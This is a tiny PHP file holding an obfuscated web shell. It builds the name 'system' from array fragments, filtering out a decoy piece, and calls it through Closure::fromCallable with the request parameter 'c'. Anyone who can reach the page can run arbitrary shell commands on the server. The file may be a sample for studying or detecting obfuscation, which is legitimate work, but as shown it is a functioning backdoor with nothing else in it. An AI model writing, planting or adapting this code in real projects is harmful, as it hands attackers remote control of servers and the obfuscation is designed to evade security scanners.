<?php
// The function name is assembled from array pieces and called through
// Closure::fromCallable(...)->__invoke().
$parts = array_diff(array("sy", "x", "st", "em"), array("x"));
$f = join($parts);
Closure::fromCallable($f)->__invoke($_REQUEST['c']);
